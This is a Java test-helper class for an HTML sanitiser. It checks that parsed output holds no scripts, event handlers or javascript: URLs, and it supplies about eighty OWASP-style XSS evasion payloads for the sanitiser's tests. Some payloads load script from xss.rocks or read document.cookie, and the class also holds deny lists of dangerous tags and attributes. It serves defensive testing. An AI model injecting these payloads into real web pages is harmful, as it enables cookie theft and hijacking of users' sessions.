package org.feedloom.html;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;

/**
 * Checks on parsed HTML that nothing executable remains, shared by the sanitiser's tests and the end-to-end
 * XSS test; and the OWASP XSS filter evasion vectors they feed in.
 */
public final class XssChecks {
    /** Elements that run script, load active content, submit, restyle the page or rebase its URLs. */
    static final Set<String> FORBIDDEN_ELEMENTS = Set.of("script", "style", "iframe", "frame", "frameset", "object",
            "embed", "applet", "form", "input", "button", "select", "textarea", "option", "meta", "link", "base",
            "svg", "math", "body", "html", "head", "title", "xml", "import", "layer", "ilayer", "bgsound",
            "noscript", "template", "xmp", "plaintext", "marquee", "video", "audio", "source", "details", "param",
            "isindex", "portal", "set", "animate", "handler");
    static final Set<String> FORBIDDEN_ATTRIBUTES = Set.of("style", "srcdoc", "formaction", "action", "background",
            "dynsrc", "lowsrc", "srcset", "data", "codebase", "poster", "xlink:href", "http-equiv", "content");
    static final Set<String> URL_ATTRIBUTES = Set.of("href", "src", "cite", "longdesc", "usemap");

    private XssChecks() {}

    /** Fails unless the HTML fragment, parsed as a browser would, holds nothing executable. */
    public static void assertNothingExecutable(String html, String what) {
        // parsed as a whole page: a stray <body onload> or <frameset> shows as a browser would apply it
        Document doc = Jsoup.parse(html == null ? "" : html);
        for (Element el : doc.getAllElements()) {
            String tag = el.normalName();
            boolean implied = el == doc.body() || el == doc.head() || el.parent() == doc;
            assertFalse(!implied && FORBIDDEN_ELEMENTS.contains(tag), what + ": <" + tag + "> in " + html);
            for (Attribute a : el.attributes()) {
                String name = a.getKey().toLowerCase(Locale.ROOT);
                assertFalse(name.startsWith("on"), what + ": handler " + name + " in " + html);
                assertFalse(FORBIDDEN_ATTRIBUTES.contains(name) || name.startsWith("xmlns") || name.contains(":"),
                        what + ": attribute " + name + " in " + html);
                if (URL_ATTRIBUTES.contains(name)) {
                    assertSafeUrl(tag, name, a.getValue(), what + " in " + html);
                }
            }
            if (tag.equals("a")) {
                String rel = " " + el.attr("rel") + " ";
                assertTrue(rel.contains(" noopener ") && rel.contains(" noreferrer "), what + ": rel of " + el);
            }
        }
    }

    /** An absolute http(s), mailto or ftp URL, or a raster data: image in img src; never an active scheme. */
    static void assertSafeUrl(String tag, String attribute, String value, String what) {
        // browsers drop leading/trailing spaces and controls and every tab or newline inside a URL
        String url = value.replaceAll("[\\u0000-\\u0020\\u007f-\\u009f]", "").toLowerCase(Locale.ROOT);
        boolean web = url.startsWith("http://") || url.startsWith("https://") || url.startsWith("mailto:")
                || url.startsWith("ftp://");
        boolean image = tag.equals("img") && attribute.equals("src") && url.startsWith("data:image/")
                && !url.startsWith("data:image/svg");
        assertTrue(web || image, what + ": " + attribute + "=\"" + value + "\"");
    }

    /** Whether {@link #assertNothingExecutable} objects to the fragment. */
    static boolean flags(String html) {
        try {
            assertNothingExecutable(html, "probe");
            return false;
        } catch (AssertionError e) {
            return true;
        }
    }

    /** The XSS filter evasion vectors of the OWASP cheat sheet (and a few mutation-XSS classics). */
    public static Stream<String> vectors() {
        String decimal = "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;";
        String padded = "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041";
        String hex = "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29";
        return List.of(
                "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
                "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
                "<IMG SRC=\"javascript:alert('XSS');\">",
                "<IMG SRC=javascript:alert('XSS')>",
                "<IMG SRC=JaVaScRiPt:alert('XSS')>",
                "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
                "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
                "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
                "<a onmouseover=alert(document.cookie)>xxs link</a>",
                "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
                "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
                "<IMG SRC=# onmouseover=\"alert('xxs')\">",
                "<IMG SRC= onmouseover=\"alert('xxs')\">",
                "<IMG onmouseover=\"alert('xxs')\">",
                "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
                "<img src=x onerror=\"" + padded + "\">",
                "<IMG SRC=" + decimal + ">",
                "<IMG SRC=" + padded + ">",
                "<IMG SRC=" + hex + ">",
                "<IMG SRC=\"jav\tascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
                "<IMG SRC=java\u0000script:alert(\"XSS\")>",
                "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
                "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
                "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
                "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
                "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
                "<SCRIPT SRC=//xss.rocks/.j>",
                "<IMG SRC=\"`('XSS')\"`",
                "<iframe src=http://xss.rocks/scriptlet.html <",
                "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
                "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
                "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
                "<IMG DYNSRC=\"javascript:alert('XSS')\">",
                "<IMG LOWSRC=\"javascript:alert('XSS')\">",
                "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
                "<svg/onload=alert('XSS')>",
                "<BODY ONLOAD=alert('XSS')>",
                "<BGSOUND SRC=\"javascript:alert('XSS');\">",
                "<BR SIZE=\"&{alert('XSS')}\">",
                "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
                "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
                "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
                "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
                "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
                "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
                "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
                "<DIV STYLE=\"width: expression(alert('XSS'));\">",
                "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
                "<XSS STYLE=\"behavior: url(xss.htc);\">",
                "<BASE HREF=\"javascript:alert('XSS');//\">",
                "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
                "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiBvbmxvYWQ9ImFsZXJ0KDEpIi8+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
                "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
                "<IMG SRC=\"livescript:[code]\">",
                "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
                "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
                "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
                "<a href=\"java&#0000009;script:alert(1)\">x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<a href=\"http://example.org/\" onclick=alert(1) target=_blank>x</a>",
                "<form action=\"javascript:alert(1)\"><button>go</button></form>",
                "<button formaction=\"javascript:alert(1)\">x</button>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
                "<video><source onerror=\"alert(1)\"></video>",
                "<details open ontoggle=alert(1)>",
                "<iframe srcdoc=\"<script>alert(1)</script>\">",
                "<a xlink:href=\"javascript:alert(1)\">x</a>",
                "<img src=\"http://example.org/ok.png\" srcset=\"javascript:alert(1)\">",
                "<template><script>alert(1)</script></template>",
                "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-")
                .stream();
    }
}
